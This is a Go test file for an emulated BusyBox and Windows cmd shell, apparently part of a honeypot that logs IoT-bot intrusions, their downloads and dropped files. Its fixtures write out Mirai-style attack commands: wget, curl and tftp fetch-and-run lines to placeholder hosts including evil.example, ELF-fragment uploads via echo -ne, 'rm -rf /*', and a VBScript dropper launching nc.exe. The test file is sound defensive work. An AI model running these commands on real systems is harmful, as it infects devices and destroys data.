package shell

import (
	"bytes"
	"encoding/binary"
	"reflect"
	"strings"
	"testing"
	"time"
)

var bbNow = time.Date(2016, 10, 21, 11, 10, 0, 0, time.UTC)

var linuxTree = LinuxTree(LinuxOptions{})

func newBusyBoxShell() *Shell {
	d := &BusyBox{}
	st := d.NewState(NewFS(linuxTree), "root", "/root")
	st.Now = func() time.Time { return bbNow }
	return &Shell{Dialect: d, State: st}
}

func TestBusyBoxOutputs(t *testing.T) {
	tests := []struct {
		line   string
		out    string
		known  bool
		status int
	}{
		// What Mirai-style bots send after logging in.
		{"enable", "-sh: enable: not found\n", false, 127},
		{"system", "-sh: system: not found\n", false, 127},
		{"shell", "-sh: shell: not found\n", false, 127},
		{"sh", "\n\nBusyBox v1.12.1 (2013-06-17 10:45:24 CST) built-in shell (ash)\nEnter 'help' for a list of built-in commands.\n\n", true, 0},
		{"/bin/busybox MIRAI", "MIRAI: applet not found\n", true, 127},
		{"busybox ECCHI; /bin/busybox IHCCE", "ECCHI: applet not found\nIHCCE: applet not found\n", true, 127},
		{"/bin/busybox echo hi", "hi\n", true, 0},
		{"/bin/busybox cat /proc/mounts | /bin/busybox grep /tmp", "tmpfs /tmp tmpfs rw,relatime 0 0\n", true, 0},
		{"cat /proc/mounts", "rootfs / rootfs rw 0 0\n/dev/root / squashfs ro,relatime 0 0\nproc /proc proc rw,relatime 0 0\n" +
			"sysfs /sys sysfs rw,relatime 0 0\ntmpfs /tmp tmpfs rw,relatime 0 0\ntmpfs /var tmpfs rw,relatime 0 0\n" +
			"tmpfs /dev tmpfs rw,relatime 0 0\ndevpts /dev/pts devpts rw,relatime,mode=600 0 0\n" +
			"/dev/mtdblock3 /etc/config jffs2 rw,relatime 0 0\n", true, 0},
		{"cat /nosuch", "cat: can't open '/nosuch': No such file or directory\n", true, 1},
		{"echo -e 'a\\tb\\x41\\0101'", "a\tbAA\n", true, 0},
		{"echo -ne '\\x7f\\x45\\x4c\\x46'", "\x7fELF", true, 0},
		{"echo -n x; echo y", "xy\n", true, 0},
		{`echo "a  b" 'c\x41'`, "a  b c\\x41\n", true, 0},
		{"echo -e 'one\\ctwo'", "one", true, 0},
		{`printf '%s=%d\n' a 1 b 2`, "a=1\nb=2\n", true, 0},
		{`printf '\x41\102'`, "AB", true, 0},
		{"uname", "Linux\n", true, 0},
		{"uname -a", "Linux (none) 2.6.36 #1 Mon Jun 17 10:49:02 CST 2013 mips GNU/Linux\n", true, 0},
		{"uname -m; uname -n -r", "mips\n(none) 2.6.36\n", true, 0},
		{"cd /tmp && pwd", "/tmp\n", true, 0},
		{"cd /nosuch || cd /var/run; pwd", "-sh: cd: can't cd to /nosuch\n/var/run\n", true, 0},
		{"cd; pwd", "/root\n", true, 0},
		{"ls /", "bin   dev   etc   home  lib   mnt   proc  root  sbin  sys   tmp   usr   var\n", true, 0},
		{"ls /nosuch", "ls: /nosuch: No such file or directory\n", true, 1},
		{"ls -l /bin/busybox /bin/ls", "-rwxr-xr-x    1 root     root        867864 Jun 17  2013 /bin/busybox\n" +
			"lrwxrwxrwx    1 root     root             7 Jun 17  2013 /bin/ls -> busybox\n", true, 0},
		{"id; whoami", "uid=0(root) gid=0(root)\nroot\n", true, 0},
		{"ps | head -n 2", "  PID USER       VSZ STAT COMMAND\n    1 root      1548 S    init\n", true, 0},
		{"cat /proc/cpuinfo | grep -c processor", "1\n", true, 0},
		{"echo $HOME $USER $SHELL; echo '$HOME' ~/x", "/root root /bin/sh\n$HOME /root/x\n", true, 0},
		{"A=1; echo $A ${A} ${B:-two} # a comment", "1 1 two\n", true, 0},
		{"[ -d /tmp ] && echo dir; [ -f /tmp ] || echo notfile; test -x /bin/sh && echo x", "dir\nnotfile\nx\n", true, 0},
		{"which wget sh; type cd", "/usr/bin/wget\n/bin/sh\ncd is a shell builtin\n", true, 0},
		{"curl -O http://192.0.2.4/x", "-sh: curl: not found\n", false, 127},
		{"nosuch 2>/dev/null; echo $?", "127\n", false, 0},
		{"false || echo $?; true && echo $?", "1\n0\n", true, 0},
		{"cat /nosuch 2>&1 | wc -l", "1\n", true, 0},
		{"cat /nosuch >/dev/null", "cat: can't open '/nosuch': No such file or directory\n", true, 1},
		{"echo x > /nosuch/y", "-sh: can't create /nosuch/y: nonexistent directory\n", true, 1},
		{"sh < /nosuch", "-sh: can't open /nosuch: no such file\n", true, 1},
		{"echo a && && echo b", "-sh: syntax error: unexpected \"&&\"\n", false, 2},
		{"echo 'a", "-sh: syntax error: unterminated quoted string\n", false, 2},
		{"sh -c 'echo in; exit 3; echo never'; echo after", "in\nafter\n", true, 0},
		{"/bin/busybox", "", true, 0}, // usage, checked by prefix below
		{"dd if=/bin/echo bs=4 count=1 2>/dev/null", "\x7fELF", true, 0},
		{"head -c 6 /bin/busybox", "\x7fELF\x01\x01", true, 0},
		{"rm /etc/passwd; cat /etc/passwd", "cat: can't open '/etc/passwd': No such file or directory\n", true, 1},
		{"rm /nosuch; rm -f /nosuch", "rm: can't remove '/nosuch': No such file or directory\n", true, 0},
		{"mkdir /tmp/a /tmp/a", "mkdir: can't create directory '/tmp/a': File exists\n", true, 1},
		{"chmod 777", "BusyBox v1.12.1 (2013-06-17 10:45:24 CST) multi-call binary\n\nUsage: chmod [-Rcvf] MODE[,MODE]... FILE...\n\n", true, 1},
		{"wget", "BusyBox v1.12.1 (2013-06-17 10:45:24 CST) multi-call binary\n\nUsage: wget [-csq] [-O file] [-Y on/off] [-P DIR] [-U agent] url\n\n", true, 1},
	}
	for _, tt := range tests {
		sh := newBusyBoxShell()
		ex := sh.Exec(tt.line)
		if tt.line == "/bin/busybox" {
			if !strings.HasPrefix(ex.Output, "BusyBox v1.12.1 (2013-06-17 10:45:24 CST) multi-call binary\n") ||
				!strings.Contains(ex.Output, " wc, wget, which, whoami, xargs\n\n") {
				t.Errorf("busybox usage: %q", ex.Output)
			}
			continue
		}
		if ex.Output != tt.out {
			t.Errorf("%s:\n got %q\nwant %q", tt.line, ex.Output, tt.out)
		}
		if ex.Known != tt.known || ex.Status != tt.status {
			t.Errorf("%s: known %v status %d, want %v %d", tt.line, ex.Known, ex.Status, tt.known, tt.status)
		}
		if ex.Exit {
			t.Errorf("%s: ends the shell", tt.line)
		}
	}
}

func TestBusyBoxDownloads(t *testing.T) {
	tests := []struct {
		line string
		want []Download
		out  string
	}{
		{"cd /tmp; wget http://192.0.2.9/bins.sh; chmod 777 bins.sh; sh bins.sh",
			[]Download{{URL: "http://192.0.2.9/bins.sh", Protocol: "http", Host: "192.0.2.9", Path: "/bins.sh"}},
			"Connecting to 192.0.2.9 (192.0.2.9:80)\nbins.sh              100% |*******************************|   111k  0:00:00 ETA\n"},
		{"wget -q -O - http://192.0.2.9:8080/x.sh | sh",
			[]Download{{URL: "http://192.0.2.9:8080/x.sh", Protocol: "http", Host: "192.0.2.9:8080", Path: "/x.sh"}}, ""},
		{"wget 192.0.2.9/x.sh",
			[]Download{{URL: "http://192.0.2.9/x.sh", Protocol: "http", Host: "192.0.2.9", Path: "/x.sh"}},
			"wget: not an http or ftp url: 192.0.2.9/x.sh\n"},
		{"wget -q http://evil.example/x",
			[]Download{{URL: "http://evil.example/x", Protocol: "http", Host: "evil.example", Path: "/x"}},
			"wget: bad address 'evil.example'\n"},
		{"tftp -g -l dvrHelper -r mirai.arm7 192.0.2.5",
			[]Download{{URL: "tftp://192.0.2.5/mirai.arm7", Protocol: "tftp", Host: "192.0.2.5", Path: "/mirai.arm7"}}, ""},
		{"tftp -r t.sh -g 192.0.2.5 6969",
			[]Download{{URL: "tftp://192.0.2.5:6969/t.sh", Protocol: "tftp", Host: "192.0.2.5:6969", Path: "/t.sh"}}, ""},
		{"tftp 192.0.2.5 -c get tftp1.sh",
			[]Download{{URL: "tftp://192.0.2.5/tftp1.sh", Protocol: "tftp", Host: "192.0.2.5", Path: "/tftp1.sh"}},
			"tftp: invalid option -- 'c'\nBusyBox v1.12.1 (2013-06-17 10:45:24 CST) multi-call binary\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\n"},
		{"ftpget -v -u anonymous -p anonymous -P 2121 192.0.2.6 ftp1.sh ftp1.sh",
			[]Download{{URL: "ftp://192.0.2.6:2121/ftp1.sh", Protocol: "ftp", Host: "192.0.2.6:2121", Path: "/ftp1.sh"}}, ""},
		{"curl -s 192.0.2.4/c.sh | sh; curl http://192.0.2.4/d",
			[]Download{{URL: "http://192.0.2.4/c.sh", Protocol: "http", Host: "192.0.2.4", Path: "/c.sh"},
				{URL: "http://192.0.2.4/d", Protocol: "http", Host: "192.0.2.4", Path: "/d"}},
			"-sh: curl: not found\n-sh: curl: not found\n"},
		{"echo 'uname' | sh", nil, "Linux\n"},
		{"echo http://192.0.2.3/a", []Download{{URL: "http://192.0.2.3/a", Protocol: "http", Host: "192.0.2.3", Path: "/a"}}, "http://192.0.2.3/a\n"},
	}
	for _, tt := range tests {
		ex := newBusyBoxShell().Exec(tt.line)
		if !reflect.DeepEqual(ex.Downloads, tt.want) {
			t.Errorf("%s:\n got %+v\nwant %+v", tt.line, ex.Downloads, tt.want)
		}
		if ex.Output != tt.out {
			t.Errorf("%s: output\n got %q\nwant %q", tt.line, ex.Output, tt.out)
		}
	}
}

// What one command leaves on the fake disk, the next one finds.
func TestBusyBoxStateCarries(t *testing.T) {
	sh := newBusyBoxShell()
	steps := []struct{ line, want string }{
		{"cd /tmp; wget -q http://192.0.2.9/bins.sh; ls", "bins.sh\n"},
		{"./bins.sh", "-sh: ./bins.sh: Permission denied\n"},
		{"chmod +x bins.sh; ./bins.sh; ls -l bins.sh", "-rwxr-xr-x    1 root     root        114680 Oct 21 11:10 bins.sh\n"},
		{"echo 'echo from script; uname -m' > s; sh s; chmod 755 s; ./s", "from script\nmips\nfrom script\nmips\n"},
		{"cp /bin/busybox ./dvrHelper; ./dvrHelper; ./dvrHelper ls s; ./dvrHelper busybox ls s", "dvrHelper: applet not found\ndvrHelper: applet not found\ndvrHelper: applet not found\n"},
		{"mkdir -p d/e; cd d/e; pwd; cd ../..; rm -r d; ls", "/tmp/d/e\nbins.sh    dvrHelper  s\n"},
		{"rm -rf *; ls -a", ".   ..\n"},
		{"sh; echo $SHLVL; exit; echo $SHLVL", "\n\nBusyBox v1.12.1 (2013-06-17 10:45:24 CST) built-in shell (ash)\n" +
			"Enter 'help' for a list of built-in commands.\n\n2\n1\n"},
		{"echo $SHLVL", "1\n"},
		{"export X=1; env | grep X=", "X=1\n"},
	}
	for _, s := range steps {
		ex := sh.Exec(s.line)
		if ex.Output != s.want {
			t.Errorf("%s:\n got %q\nwant %q", s.line, ex.Output, s.want)
		}
	}
	// exit in a nested shell ends that shell only; the login shell's
	// exit ends the session and the rest of its line.
	if ex := sh.Exec("sh; exit"); ex.Exit {
		t.Error("exit of a nested sh ended the login shell")
	}
	ex := sh.Exec("echo a; exit; echo b")
	if !ex.Exit || ex.Output != "a\n" {
		t.Errorf("exit: %q exit=%v, want \"a\\n\" and the end", ex.Output, ex.Exit)
	}
}

// Mirai's way of uploading its binary: echo -ne '\x..' fragments
// appended to a file, then the file run. The file is handed over whole,
// once per content, never fragment by fragment.
func TestBusyBoxDrops(t *testing.T) {
	sh := newBusyBoxShell()
	sh.Exec("cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper")
	var want []byte
	for i := 0; i < 5; i++ {
		frag := []byte{0x7f, 'E', 'L', 'F', byte(i), 0xff, 0x00, '\n'}
		var esc strings.Builder
		for _, b := range frag {
			esc.WriteString(`\x` + hexByte(b))
		}
		ex := sh.Exec("echo -ne '" + esc.String() + "' >> dvrHelper")
		if len(ex.Drops) != 0 {
			t.Fatalf("fragment %d handed over on its own", i)
		}
		want = append(want, frag...)
	}
	ex := sh.Exec("./dvrHelper telnet.mips; /bin/busybox IHCCE")
	if len(ex.Drops) != 1 || ex.Drops[0].Why != "exec" || ex.Drops[0].Name != "/tmp/dvrHelper" || !bytes.Equal(ex.Drops[0].Data, want) {
		t.Fatalf("drops after running: %+v", ex.Drops)
	}
	if ex.Output != "IHCCE: applet not found\n" {
		t.Errorf("output %q", ex.Output)
	}
	if ex := sh.Exec("./dvrHelper again"); len(ex.Drops) != 0 {
		t.Errorf("the same content was handed over twice")
	}
	if got := sh.Flush(); len(got) != 0 {
		t.Errorf("flush after everything was handed over: %+v", got)
	}
	// > then >>, made executable: handed over on chmod; copied, followed
	// under its new name; changed again, handed over at the end.
	sh.Exec("printf 'ab' > x; printf 'cd' >> x")
	if ex := sh.Exec("chmod +x x"); len(ex.Drops) != 1 || string(ex.Drops[0].Data) != "abcd" || ex.Drops[0].Why != "chmod" {
		t.Errorf("drops on chmod: %+v", ex.Drops)
	}
	sh.Exec("mv x y; echo -n ef >> y")
	sh.Exec("echo 'not followed' > /tmp/z.txt; rm /tmp/z.txt")
	got := sh.Flush()
	if len(got) != 1 || got[0].Name != "/tmp/y" || string(got[0].Data) != "abcdef" || got[0].Why != "end" {
		t.Errorf("flush: %+v", got)
	}
	// Output that is not echo's or printf's is not followed.
	sh2 := newBusyBoxShell()
	sh2.Exec("cat /etc/passwd > /tmp/p; chmod +x /tmp/p")
	if got := sh2.Flush(); len(got) != 0 {
		t.Errorf("cat output followed: %+v", got)
	}
}

func hexByte(b byte) string {
	const digits = "0123456789abcdef"
	return string([]byte{digits[b>>4], digits[b&15]})
}

// The cmd dialect: files built with echo (ftp scripts, VBScript) are
// handed over at the end; exit ends the line.
func TestCmdDropsAndExit(t *testing.T) {
	sh := newCmdShell(`c:\inetpub\scripts`)
	sh.Exec(`echo Set x = CreateObject("WScript.Shell") > c:\a.vbs & echo x.Run "nc.exe" >> c:\a.vbs & cscript c:\a.vbs`)
	got := sh.Flush()
	if len(got) != 1 || got[0].Name != `c:\a.vbs` || string(got[0].Data) != "Set x = CreateObject(\"WScript.Shell\")  \r\nx.Run \"nc.exe\"  \r\n" {
		t.Errorf("flush: %+v", got)
	}
	ex := sh.Exec("ver & exit & echo no")
	if !ex.Exit || strings.Contains(ex.Output, "no") {
		t.Errorf("exit: %q exit=%v", ex.Output, ex.Exit)
	}
	if ex := sh.Exec(`cmd /c "exit" & echo yes`); ex.Exit || ex.Output != "yes\r\n" {
		t.Errorf("exit of a nested cmd: %q exit=%v", ex.Output, ex.Exit)
	}
}

func TestUnescape(t *testing.T) {
	for _, tt := range []struct {
		in, want string
		echo     bool
		stop     bool
	}{
		{`\x7f\x45\x4c\x46`, "\x7fELF", true, false},
		{`\x4`, "\x04", true, false},
		{`\xg`, `\xg`, true, false},
		{`\0101\101`, "AA", true, false},
		{`\101`, "A", false, false},
		{`\0`, "\x00", false, false},
		{`a\\b\n`, "a\\b\n", true, false},
		{`a\cb`, "a", true, true},
		{`\q`, `\q`, true, false},
		{`end\`, `end\`, true, false},
	} {
		got, stop := unescape(tt.in, tt.echo)
		if got != tt.want || stop != tt.stop {
			t.Errorf("unescape(%q) = %q %v, want %q %v", tt.in, got, stop, tt.want, tt.stop)
		}
	}
}

func TestParseMode(t *testing.T) {
	for _, tt := range []struct {
		spec string
		old  uint32
		want uint32
		ok   bool
	}{
		{"777", 0644, 0777, true},
		{"0755", 0644, 0755, true},
		{"+x", 0644, 0755, true},
		{"u+x", 0644, 0744, true},
		{"go-rwx", 0755, 0700, true},
		{"a=r", 0755, 0444, true},
		{"u+x,g+w", 0644, 0764, true},
		{"x", 0644, 0, false},
		{"+q", 0644, 0, false},
	} {
		got, ok := parseMode(tt.spec, tt.old)
		if got != tt.want || ok != tt.ok {
			t.Errorf("parseMode(%q, %o) = %o %v, want %o %v", tt.spec, tt.old, got, ok, tt.want, tt.ok)
		}
	}
}

func TestUnixResolve(t *testing.T) {
	cwd := []string{"tmp", "a"}
	for _, tt := range []struct {
		name string
		want []string
	}{
		{"../../..", nil},
		{"/etc//passwd", []string{"etc", "passwd"}},
		{"./b/../c", []string{"tmp", "a", "c"}},
		{"/", nil},
	} {
		if got := UnixResolve(cwd, tt.name); strings.Join(got, "/") != strings.Join(tt.want, "/") {
			t.Errorf("UnixResolve(%q) = %q, want %q", tt.name, got, tt.want)
		}
	}
}

// The ELF header of the system binaries names the persona's processor,
// as droppers that read /bin/echo expect.
func TestELFHeader(t *testing.T) {
	for _, tt := range []struct {
		arch    string
		class   byte
		big     bool
		machine uint16
	}{
		{"mipsel", 1, false, 8}, {"mips", 1, true, 8}, {"armv5l", 1, false, 40}, {"armv7l", 1, false, 40},
		{"aarch64", 2, false, 183}, {"i686", 1, false, 3}, {"x86_64", 2, false, 62},
	} {
		h := ELFHeader(tt.arch)
		var bo binary.ByteOrder = binary.LittleEndian
		if tt.big {
			bo = binary.BigEndian
		}
		wantLen := 52
		if tt.class == 2 {
			wantLen = 64
		}
		if len(h) != wantLen || string(h[:4]) != "\x7fELF" || h[4] != tt.class || (h[5] == 2) != tt.big || bo.Uint16(h[18:]) != tt.machine {
			t.Errorf("%s: header % x", tt.arch, h)
		}
		d := &BusyBox{Arch: tt.arch}
		st := d.NewState(NewFS(LinuxTree(LinuxOptions{Arch: tt.arch})), "root", "/root")
		sh := &Shell{Dialect: d, State: st}
		if ex := sh.Exec("cat /bin/echo"); ex.Output != string(h) {
			t.Errorf("%s: cat /bin/echo = % x", tt.arch, ex.Output)
		}
	}
}

func TestFSChmod(t *testing.T) {
	f := NewFS(linuxTree)
	if err := f.Chmod([]string{"bin", "busybox"}, 0700); err != nil {
		t.Fatal(err)
	}
	if n := f.Stat([]string{"bin", "busybox"}); n.Mode != 0700 || n.Program != "busybox" || n.Size != busyboxSize {
		t.Errorf("chmod'ed busybox: %+v", n)
	}
	if n := NewFS(linuxTree).Stat([]string{"bin", "busybox"}); n.Mode != 0755 {
		t.Errorf("the shared tree changed: mode %o", n.Mode)
	}
	// A base directory keeps its entries.
	_ = f.Chmod([]string{"bin"}, 0700)
	if kids, _ := f.List([]string{"bin"}); len(kids) < 10 {
		t.Errorf("bin lists %d entries after chmod", len(kids))
	}
	if err := f.Chmod([]string{"nosuch"}, 0700); err != ErrNotFound {
		t.Errorf("chmod of a missing file: %v", err)
	}
}

// FuzzBusyBox runs arbitrary lines through the BusyBox dialect: nothing
// panics, output, downloads and drops stay bounded.
func FuzzBusyBox(f *testing.F) {
	for _, s := range []string{"enable; system; shell; sh; /bin/busybox MIRAI", "cd /tmp || cd /var/run; wget http://1.2.3.4/x -O- | sh",
		"echo -ne '\\x7f\\x45' >> d; chmod 777 d; ./d", "rm -rf /*; ls -la /", "sh -c 'sh -c \"sh -c sh\"'",
		"echo 'sh s' > s; sh s", "printf '%s%d%b' a 1 '\\x41'", "A=$HOME${B:-x}~ # c", "tftp -g -r a -l b 1.2.3.4 69; ftpget h l r",
		"[ -d / ] && test x = x || [ ! -f /x ]", "cat /dev/zero | head -c 10 | wc -c", "dd if=/bin/sh bs=52 count=1 skip=0"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		sh := newBusyBoxShell()
		for i := 0; i < 3; i++ {
			ex := sh.Exec(line)
			if len(ex.Output) > 64<<10 || len(ex.Downloads) > MaxDownloads || len(ex.Drops) > MaxDrops {
				t.Fatalf("output %d bytes, %d downloads, %d drops", len(ex.Output), len(ex.Downloads), len(ex.Drops))
			}
		}
		if len(sh.Flush()) > MaxBuilt {
			t.Fatal("flush past MaxBuilt")
		}
	})
}
